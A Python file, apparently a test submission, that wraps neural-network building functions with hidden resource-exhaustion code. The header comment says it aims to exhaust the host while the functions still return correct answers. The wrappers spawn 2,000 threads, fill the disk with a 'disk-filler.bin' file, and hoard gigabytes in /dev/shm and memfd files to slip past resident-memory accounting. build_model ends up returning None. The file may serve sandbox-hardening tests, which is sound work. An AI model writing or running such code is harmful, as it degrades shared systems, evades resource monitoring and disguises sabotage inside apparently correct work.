# Tries to exhaust the host while its functions still return the right answers: 2,000 threads,
# a disk filled to the brim, then memory held in memory-backed files (memfd) and /dev/shm,
# which resident-memory accounting would never see. Prints what it got: "EXHAUST <what> <amount>".
import os as _os
import threading as _threading

_first_conv, _pooling = first_conv, pooling


def first_conv(input_shape=INPUT_SHAPE):
    if not _threads_tried:
        _threads_tried.append(_spawn_threads())
    return _first_conv(input_shape)


_threads_tried = []


def _spawn_threads():
    stop, threads = _threading.Event(), []
    try:
        for _ in range(2000):
            threads.append(_threading.Thread(target=stop.wait, daemon=True))
            threads[-1].start()
    except RuntimeError:
        threads.pop()
    stop.set()
    for thread in threads:
        thread.join()
    started = len(threads)
    print(f"EXHAUST threads {started}", flush=True)
    return started


def pooling():
    written = 0
    try:
        with open("disk-filler.bin", "wb") as fh:
            for _ in range(100000):
                fh.write(b"x" * (1024 * 1024))
                fh.flush()
                written += 1
    except OSError:
        pass
    print(f"EXHAUST disk_mb {written}", flush=True)
    return _pooling()


def build_model(input_shape=INPUT_SHAPE):
    held, chunk = [], b"x" * (1024 * 1024)
    try:
        with open("/dev/shm/hoard", "wb") as fh:
            for _ in range(1024):
                fh.write(chunk)
    except OSError:
        pass
    for done in range(8192):  # 8 GB in memory-backed files, 256 MB each
        if done % 256 == 0:
            held.append(_os.memfd_create("hoard"))
            print(f"EXHAUST memfd_mb {done}", flush=True)
        _os.write(held[-1], chunk)
    return None
